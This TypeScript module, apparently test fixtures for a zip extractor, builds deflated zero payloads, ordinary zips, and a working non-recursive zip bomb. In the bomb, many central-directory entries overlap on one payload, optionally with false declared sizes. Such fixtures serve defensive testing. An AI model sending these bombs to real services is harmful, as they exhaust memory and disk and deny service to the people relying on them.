/**
 * Zips a hostile site might send, built small: the non-recursive zip bomb (many central-directory
 * entries pointing at one highly compressed payload, after David Fifield's "A better zip bomb").
 */
import { createDeflateRaw, crc32, deflateRawSync } from 'node:zlib';

const MiB = 1024 * 1024;

export interface Deflated {
  /** Raw deflate data. */
  readonly packed: Buffer;
  /** Size and CRC-32 of what it inflates to. */
  readonly size: number;
  readonly crc: number;
}

/** `bytes` zero bytes, deflated without ever holding them: about 1/1000 of the size. */
export async function deflatedZeros(bytes: number): Promise<Deflated> {
  const chunk = Buffer.alloc(Math.min(MiB, bytes));
  const deflate = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (b: Buffer) => out.push(b));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  let crc = 0;
  for (let left = bytes; left > 0; left -= chunk.length) {
    const part = left >= chunk.length ? chunk : chunk.subarray(0, left);
    crc = crc32(part, crc);
    if (!deflate.write(part)) await new Promise((r) => deflate.once('drain', r));
  }
  deflate.end();
  await done;
  return { packed: Buffer.concat(out), size: bytes, crc };
}

/** `data` deflated (small data: in one go). */
export function deflated(data: Buffer): Deflated {
  return { packed: deflateRawSync(data), size: data.length, crc: crc32(data) };
}

/** An honest zip of `files` (name -> content), each deflated, none overlapping. */
export function zipOf(files: Readonly<Record<string, string>>): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(files)) {
    const d = deflated(Buffer.from(text));
    const n = Buffer.from(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(d.crc, 14);
    local.writeUInt32LE(d.packed.length, 18);
    local.writeUInt32LE(d.size, 22);
    local.writeUInt16LE(n.length, 26);
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(0x0314, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(8, 10);
    c.writeUInt32LE(d.crc, 16);
    c.writeUInt32LE(d.packed.length, 20);
    c.writeUInt32LE(d.size, 24);
    c.writeUInt16LE(n.length, 28);
    c.writeUInt32LE(offset, 42);
    locals.push(local, n, d.packed);
    central.push(c, n);
    offset += local.length + n.length + d.packed.length;
  }
  const cd = Buffer.concat(central);
  const eocd = Buffer.alloc(22);
  const count = Object.keys(files).length;
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(count, 8);
  eocd.writeUInt16LE(count, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, eocd]);
}

export interface BombOptions {
  /** Central-directory entries, all pointing at the one payload. */
  readonly entries: number;
  /** The size each entry declares; default the payload's real size (an honest-looking bomb). */
  readonly declaredSize?: number;
  /** Entry names, by index. */
  readonly name?: (i: number) => string;
}

/**
 * One local file header and payload at offset 0, then `entries` central-directory records that
 * all point at it. Every record is well-formed on its own; only together do they overlap.
 */
export function overlappingZip(payload: Deflated, opts: BombOptions): Buffer {
  const nameOf = opts.name ?? ((i: number) => `iam-assets/file-${i}.json`);
  const size = opts.declaredSize ?? payload.size;
  const first = Buffer.from(nameOf(0));
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8); // deflate
  local.writeUInt32LE(payload.crc, 14);
  local.writeUInt32LE(payload.packed.length, 18);
  local.writeUInt32LE(size, 22);
  local.writeUInt16LE(first.length, 26);
  const central: Buffer[] = [];
  for (let i = 0; i < opts.entries; i++) {
    const name = Buffer.from(nameOf(i));
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(0x0314, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(8, 10);
    c.writeUInt32LE(payload.crc, 16);
    c.writeUInt32LE(payload.packed.length, 20);
    c.writeUInt32LE(size, 24);
    c.writeUInt16LE(name.length, 28);
    c.writeUInt32LE(0, 42); // every entry at offset 0
    central.push(c, name);
  }
  const body = Buffer.concat([local, first, payload.packed]);
  const cd = Buffer.concat(central);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(opts.entries, 8);
  eocd.writeUInt16LE(opts.entries, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(body.length, 16);
  return Buffer.concat([body, cd, eocd]);
}
